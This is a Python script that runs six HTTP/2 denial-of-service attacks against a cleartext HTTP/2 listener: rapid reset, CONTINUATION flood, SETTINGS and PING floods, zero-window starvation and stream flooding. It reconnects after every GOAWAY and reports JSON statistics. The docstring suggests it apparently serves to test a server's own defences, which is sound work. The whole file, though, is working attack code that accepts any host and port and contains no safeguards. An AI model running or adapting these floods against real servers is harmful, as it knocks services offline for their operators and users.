#!/usr/bin/python3
"""HTTP/2 abuse against an h2c (prior knowledge) listener, with a real HTTP/2 library.

    h2-abuse.py ATTACK HOST:PORT SECONDS

ATTACK is one of:
  rapid-reset   HEADERS then RST_STREAM at once, as fast as possible (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames forever
                (the 2024 CONTINUATION flood)
  settings      SETTINGS frames as fast as possible, never reading the ACKs
  ping          PING frames as fast as possible, never reading the PONGs (CVE-2019-9512)
  zero-window   a zero initial window, then many requests whose answers can never be sent
  stream-flood  more concurrent streams than the server allows, all kept open

It attacks for SECONDS, opening a new connection whenever the server ends one (as a real
attacker would), and prints one JSON line: what it sent, how many connections it needed,
how many the server ended and with which GOAWAY codes. The node's own tests judge the rest
(other clients served meanwhile, memory bounded). The h2 package is
Debian's python3-h2 (`make deps` installs it) or pip's.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame


def request_headers(authority, path="/"):
    return [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]


class Attack:
    def __init__(self, addr, seconds):
        host, port = addr.rsplit(":", 1)
        self.authority = addr
        self.sock = socket.create_connection((host, int(port)), timeout=5)
        self.sock.setblocking(False)
        self.deadline = time.monotonic() + seconds
        self.started = time.monotonic()
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.sent_frames = 0
        self.sent_bytes = 0
        self.read_bytes = 0
        self.goaway = None
        self.closed_after = None
        self.send_error = None

    def send(self, data):
        """Sends what it can; a full socket buffer is fine (the server is not reading)."""
        view = memoryview(data)
        while view and self.closed_after is None:
            try:
                n = self.sock.send(view)
                self.sent_bytes += n
                view = view[n:]
            except BlockingIOError:
                if not self.poll(0.01) or time.monotonic() > self.deadline:
                    return False
            except OSError as e:
                self.send_error = str(e)
                self.mark_closed()
                return False
        return True

    def mark_closed(self):
        if self.closed_after is None:
            self.closed_after = round(time.monotonic() - self.started, 3)

    def poll(self, wait=0.0, parse=True):
        """Reads what the server sent; returns False once it closed the connection."""
        end = time.monotonic() + wait
        while True:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                if time.monotonic() >= end:
                    return self.closed_after is None
                time.sleep(0.002)
                continue
            except OSError:
                self.mark_closed()
                return False
            if not data:
                self.mark_closed()
                return False
            self.read_bytes += len(data)
            if parse:
                try:
                    for ev in self.conn.receive_data(data):
                        if isinstance(ev, h2.events.ConnectionTerminated):
                            self.goaway = int(ev.error_code)
                except Exception:  # the library objects to what it sees after our abuse
                    pass
                pending = self.conn.data_to_send()
                if pending:
                    try:
                        self.sock.send(pending)
                    except OSError:
                        pass

    def preface(self, settings=None):
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.send(self.conn.data_to_send())
        self.poll(0.2)

    def running(self):
        # A GOAWAY closes the connection's state at once, while the socket may stay open a
        # moment longer: sending more would be refused by the library, so the attack is over.
        if self.conn.state_machine.state == h2.connection.ConnectionState.CLOSED:
            self.mark_closed()
        return time.monotonic() < self.deadline and self.closed_after is None

    def report(self, attack, **extra):
        self.sock.close()
        out = {
            "frames_sent": self.sent_frames,
            "bytes_sent": self.sent_bytes,
            "bytes_read": self.read_bytes,
            "goaway_error_code": self.goaway,
            "closed_after_s": self.closed_after,
        }
        out.update(extra)
        RESULTS.append(out)


def rapid_reset(a):
    a.preface()
    stream = 1
    while a.running():
        a.conn.send_headers(stream, request_headers(a.authority))
        a.conn.reset_stream(stream)
        a.sent_frames += 2
        stream += 2
        if stream > 2**31 - 1:
            break
        if stream % 200 == 1:
            a.send(a.conn.data_to_send())
            a.poll()
    a.send(a.conn.data_to_send())
    a.poll(1.0)
    a.report("rapid-reset", streams=(stream - 1) // 2)


def continuation(a):
    a.preface()
    # The header block never ends: every CONTINUATION frame adds more of it.
    block = a.conn.encoder.encode(request_headers(a.authority))
    first = HeadersFrame(1, data=block)
    first.flags.add("END_STREAM")  # no END_HEADERS
    a.send(first.serialize())
    a.sent_frames += 1
    junk = a.conn.encoder.encode([("x-flood", "a" * 1000)])
    while a.running():
        frames = b"".join(ContinuationFrame(1, data=junk).serialize() for _ in range(64))
        if not a.send(frames):
            a.poll(0.05)
            continue
        a.sent_frames += 64
        a.poll(parse=False)
    a.poll(1.0, parse=False)
    a.report("continuation")


def settings_flood(a):
    a.preface()
    frame = SettingsFrame(0, settings={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100}).serialize()
    batch = frame * 256
    while a.running():
        if a.send(batch):
            a.sent_frames += 256
        # Never read: the ACKs pile up on the server's side unless it bounds them.
    a.poll(1.0, parse=False)
    a.report("settings")


def ping_flood(a):
    a.preface()
    batch = b"".join(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(256))
    while a.running():
        if a.send(batch):
            a.sent_frames += 256
    a.poll(1.0, parse=False)
    a.report("ping")


def zero_window(a):
    a.preface({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    stream = 1
    while a.running() and stream < 2 * 200:
        a.conn.send_headers(stream, request_headers(a.authority, "/big"), end_stream=True)
        a.sent_frames += 1
        stream += 2
    a.send(a.conn.data_to_send())
    # Never open a window (what arrives is read but not given to the library, which would
    # send WINDOW_UPDATEs): the answers cannot be sent.
    while a.running():
        a.poll(0.1, parse=False)
    a.report("zero-window", streams=(stream - 1) // 2)


def stream_flood(a):
    a.preface()
    stream, refused = 1, 0
    while a.running() and stream < 2 * 2000:
        # A request whose body never comes: the stream stays open.
        raw = HeadersFrame(stream, data=a.conn.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":authority", a.authority), (":path", "/")]))
        raw.flags.add("END_HEADERS")
        a.send(raw.serialize())
        a.sent_frames += 1
        stream += 2
        if stream % 100 == 1:
            a.poll(0.01, parse=False)
    a.poll(2.0, parse=False)
    a.report("stream-flood", streams=(stream - 1) // 2)


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings": settings_flood,
    "ping": ping_flood,
    "zero-window": zero_window,
    "stream-flood": stream_flood,
}

RESULTS = []

if __name__ == "__main__":
    if len(sys.argv) != 4 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    attack, addr = sys.argv[1], sys.argv[2]
    deadline = time.monotonic() + float(sys.argv[3])
    refused = 0
    while time.monotonic() < deadline - 0.05:
        try:
            ATTACKS[attack](Attack(addr, deadline - time.monotonic()))
        except OSError:
            refused += 1
            time.sleep(0.05)
    ended = [r for r in RESULTS if r["closed_after_s"] is not None]
    print(json.dumps({
        "attack": attack,
        "connections": len(RESULTS),
        "refused_connects": refused,
        "ended_by_server": len(ended),
        "goaway_codes": sorted({r["goaway_error_code"] for r in RESULTS if r["goaway_error_code"] is not None}),
        "longest_connection_s": max((r["closed_after_s"] or float(sys.argv[3]) for r in RESULTS), default=0),
        "frames_sent": sum(r["frames_sent"] for r in RESULTS),
        "bytes_sent": sum(r["bytes_sent"] for r in RESULTS),
    }), flush=True)
